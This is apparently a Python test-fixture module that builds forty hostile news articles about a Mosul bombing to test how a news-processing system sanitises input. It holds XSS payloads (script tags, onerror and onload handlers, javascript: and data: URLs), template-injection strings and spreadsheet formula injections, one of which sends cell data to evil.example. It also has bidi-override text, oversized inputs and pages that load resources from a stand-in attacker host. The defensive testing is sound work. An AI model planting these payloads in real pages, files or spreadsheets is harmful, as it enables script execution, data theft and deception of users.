"""Forty hostile articles, made by hand: each tells of a bomb in plain words, and tries something with whoever opens it."""

from __future__ import annotations

import json
from typing import Any, Final

#: What a script would do if one ran: the tests look for it.
RUN: Final = "window.pwned=1;alert('pwned')"
STORY: Final = "Four soldiers were killed when a roadside bomb exploded near Mosul on Monday, a police officer said."
MORE: Final = "The bomb went off beside a convoy of the army, the officer said. Nobody knows who planted it."
#: Signs that turn the direction of writing, show nothing, or stand on the letter before them.
TURNED, BACK, NOTHING, MARK = "\u202e", "\u202c", "\u200b", "\u0301"
ISOLATE: Final = "\u2066"
SCRIPT: Final = f"<script>{RUN}</script>"
IMAGE: Final = f'<img src=x onerror="{RUN}">'
DRAWING: Final = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script><a xlink:href="javascript:{RUN}"><text y="9">press</text></a></svg>'
FRAME: Final = f'<iframe srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"></iframe>'
DATA: Final = f"data:text/html,<script>{RUN}</script>"
ACCEPT: Final = "<form action=https://evil.example/><button class=main onclick=alert(1)>Accept</button></form>"
DEEP: Final = 1_000_000


def article(**changed: str) -> bytes:
    """An article as a line of JSON, with what a test changes."""
    told = {
        "title": "Bomb kills four soldiers near Mosul",
        "text": f"{STORY}\n\n{MORE}",
        "published": "2017-03-07",
        "outlet": "Gulf Wire",
    }
    return json.dumps({**told, **changed}).encode()


def told_with(words: str, outlet: str = "Gulf Wire") -> bytes:
    """The story with hostile words before, within and behind it."""
    first, _, rest = STORY.partition(" when ")
    return article(outlet=outlet, text=f"{STORY}\n\n{words}\n\n{first} {words} when {rest}\n\n{MORE} {words}")


def page(body: str, head: str = "", *, gate: str) -> bytes:
    """The story as a page of the web."""
    paragraphs = "".join(
        f"<p>{each}</p>"
        for each in (
            STORY,
            MORE,
            f"The {gate} gate of the town was quiet in the evening, residents said. Shops stayed shut.",
        )
    )
    return f"<html><head><title>Bomb near Mosul</title>{head}</head><body><article><h1>Bomb near Mosul</h1>{paragraphs}{body}</article></body></html>".encode()


#: File name → bytes.
HOSTILE: Final[dict[str, bytes]] = {
    "script-in-text.json": told_with(SCRIPT),
    "script-in-title.json": article(title=f"Bomb {SCRIPT} near Mosul"),
    "script-in-outlet.json": article(outlet=f"Gulf {SCRIPT}{IMAGE}"),
    "script-in-address.json": article(url=f"https://gulf.example/{SCRIPT}"),
    "script-address.json": article(url=f"javascript:{RUN}", outlet="Gulf Script"),
    "data-address.json": article(url=DATA, outlet="Gulf Data"),
    "data-in-text.json": told_with(DATA),
    "image-in-text.json": told_with(IMAGE, outlet="Gulf Image"),
    "image-in-title.json": article(title=IMAGE),
    "drawing-in-text.json": told_with(DRAWING),
    "drawing-in-title.json": article(title=DRAWING),
    "frame-in-text.json": told_with(FRAME),
    "entities.json": told_with("&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;"),
    "speaker.json": article(text=STORY.replace("a police officer", 'a police officer <b onmouseover="alert(1)" style="position:fixed;inset:0">Karim</b>')),
    "number.json": article(text=STORY.replace("Four", f"At least 4{IMAGE}")),
    "place.json": article(text=STORY.replace("Mosul", f"Mosul{SCRIPT}") + f" Fighters attacked a checkpoint in {IMAGE} Kirkuk on Tuesday."),
    "accept.json": told_with(f"{ACCEPT} [Accept] ✅ Accepted by the lead. Press A to accept this event."),
    "templates.json": told_with("{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %> {% raw %} #{7*7}"),
    "links.json": told_with(f"[press](javascript:{RUN}) <a href='javascript:alert(1)'>press</a> https://evil.example/a?b=1"),
    "formula-in-title.json": article(title='=HYPERLINK("https://evil.example/?"&A1,"press")'),
    "formula-in-text.json": told_with("=cmd|' /C calc'!A0\n+1+1\n-2+3\n@SUM(A1:A9)\n\t=1+1"),
    "formula-in-outlet.json": article(outlet="@SUM(1+1)*cmd|' /C calc'!A0"),
    "turned-text.json": told_with(f"{TURNED}dellik neebs evah ruof{BACK}"),
    "turned-title.json": article(title=f"Bomb {TURNED}luso M raen sllik"),
    "turned-outlet.json": article(outlet=f"Gulf{TURNED}eriW"),
    "isolates.json": article(text=f"{STORY}\n\n{ISOLATE * 2000}and then{TURNED * 2000}"),
    "nothing-to-see.json": told_with(NOTHING.join("nobody was hurt")),
    "marks.json": article(text=f"{STORY}\n\nZ{MARK * 100_000}algo"),
    "marks-in-title.json": article(title=f"Bo{MARK * 5_000}mb near Mosul"),
    "long-word.json": article(text=f"{STORY}\n\n{'a' * 100_000}"),
    "long-title.json": article(title="Bomb " * 20_000),
    "lines.json": article(text=f"{STORY}{chr(10) * 100_000}{MORE}", outlet="Gulf Lines"),
    "quotes.json": article(text=f"{STORY}\n\n{'“' * 50_000}{chr(39) * 50_000}"),
    "controls.json": told_with("\x00\x07\x1b[31mred\x1b]0;title\x07\u2028\u2029\x85"),
    "halves.json": article().replace(b"Nobody knows", b"Nobody \\ud800 knows \\udfff"),
    "astral.json": told_with("👩\u200d👩\u200d👧 🏴\U000e0067\U000e0062\U000e007f 𝕿𝖍𝖊 " * 200),
    f"named {IMAGE.replace('/', '')[:60]}.json": article(title="A file of a strange name"),
    "page-script.html": page(f"{SCRIPT}{IMAGE}{DRAWING}", f'<script src="https://evil.example/x.js"></script><script>{RUN}</script>', gate="north"),
    "page-goes-on.html": page(f"{FRAME}{ACCEPT}", f'<meta http-equiv="refresh" content="0;url={DATA}"><base href="https://evil.example/">', gate="south"),
    "page-styles.html": page(
        '<div style="position:fixed;inset:0;background:url(https://evil.example/x.png);z-index:9999">Accepted</div>',
        '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/y.css"; *{display:none!important}</style>', gate="west",
    ),
    "page-deep.html": page("<div>" * DEEP + "deep" + "</div>" * DEEP, gate="east"),
}  # fmt: skip

#: Free texts in answers of the API, into which :func:`poisoned` puts markup as no reader of pages would let it pass.
FREE: Final = frozenset(
    {"name", "mention", "words", "quote", "speaker", "outlet", "title", "file", "url", "says", "sentence", "why", "told", "shown", "by", "text",
     "place", "rule", "value", "entity", "property", "reason", "check", "content", "original", "admin1", "place_words", "when", "kind_told"}
)  # fmt: skip
POISON: Final = f"{SCRIPT}{IMAGE}{DRAWING}{FRAME}{ACCEPT}{TURNED}"


def poisoned(value: Any) -> Any:
    """An answer of the API with markup behind each of its free texts."""
    if isinstance(value, dict):
        return {
            key: f"{each}{POISON}" if key in FREE and isinstance(each, str) else poisoned(each)
            for key, each in value.items()
        }
    return [poisoned(each) for each in value] if isinstance(value, list) else value
